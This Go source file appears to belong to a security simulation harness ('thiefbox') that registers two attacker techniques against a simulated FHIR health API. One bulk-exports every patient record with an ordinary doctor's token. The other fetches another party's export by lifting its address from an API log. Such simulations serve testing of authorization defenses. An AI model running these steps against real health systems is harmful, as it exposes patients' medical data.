package attacker

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/url"
	"strings"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

var _ = register("F-16", Technique{
	Variant: "whole-system",
	Title:   "Everybody in one request",
	Story: "The thief is a doctor with a valid token. He asks the API for an export of all the patients it has, waits for the files and " +
		"fetches one.",
	Reads:  []string{"FHIR Bulk Data Access 2.0", "OWASP API1:2023"},
	Has:    []event.Asset{event.OwnClient},
	Beyond: beyondObjects,
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		address := g.Target().FHIRBase + "/$export?_type=Patient"
		ans, err := a.startExport(ctx, address, t)
		if err != nil {
			return err
		}
		if ans.status != http.StatusAccepted {
			return ErrStopped
		}
		return a.fetchExport(ctx, ans.header.Get("Content-Location"), t)
	},
})

var _ = register("F-17", Technique{
	Variant: "of-another",
	Title:   "Somebody else's export, by its address",
	Story: "A supplier has exported the patients of its clinics, and the addresses of the export and its files stand in the API's log. The thief " +
		"reads the log and fetches the files, with a token of his own.",
	Reads:  []string{"FHIR Bulk Data Access 2.0, Security", "OWASP API1:2023"},
	Needs:  []event.Vantage{event.APILog},
	Has:    []event.Asset{event.OwnClient},
	Scene:  Scene{Exported: true},
	Beyond: beyondObjects,
	Run: func(ctx context.Context, g Ground) error {
		address, err := overheardExport(g)
		if err != nil {
			return err
		}
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		return a.fetchExport(ctx, address, t)
	},
})

// startExport asks for an export.
func (a *app) startExport(ctx context.Context, address string, t fapi.TokenResponse) (answer, error) {
	return a.withNonce(address, func() (*http.Request, error) {
		r, err := a.asking(ctx, address, t)
		if err == nil {
			r.Header.Set("Prefer", "respond-async")
		}
		return r, err
	})
}

// overheardExport is the address at which somebody asked how far an export had come.
func overheardExport(g Ground) (string, error) {
	for _, m := range newestFirst(g.Overheard(event.APILog)) {
		if u, err := url.Parse(m.URL); err == nil {
			if before, id, ok := strings.Cut(u.Path, "/_export/"); ok {
				id, _, _ = strings.Cut(id, "/")
				u.Path = before + "/_export/" + id
				return u.String(), nil
			}
		}
	}
	return "", errors.New("nobody's export was overheard in the API's log")
}

// fetchExport asks which files an export has, and fetches the first.
func (a *app) fetchExport(ctx context.Context, address string, t fapi.TokenResponse) error {
	files, err := a.filesOf(ctx, address, t)
	if err != nil {
		return err
	}
	_, err = a.read(ctx, files[0], t)
	return err
}

// filesOf asks which files an export has. That there is none is nothing for him.
func (a *app) filesOf(ctx context.Context, address string, t fapi.TokenResponse) ([]string, error) {
	ans, err := a.read(ctx, address, t)
	if err != nil {
		return nil, err
	}
	if !ans.ok() {
		return nil, ErrStopped
	}
	var list struct {
		Output []struct {
			URL string `json:"url"`
		} `json:"output"`
	}
	if err := json.Unmarshal(ans.body, &list); err != nil {
		return nil, err
	}
	var files []string
	for _, o := range list.Output {
		files = append(files, o.URL)
	}
	if len(files) == 0 {
		return nil, ErrStopped
	}
	return files, nil
}
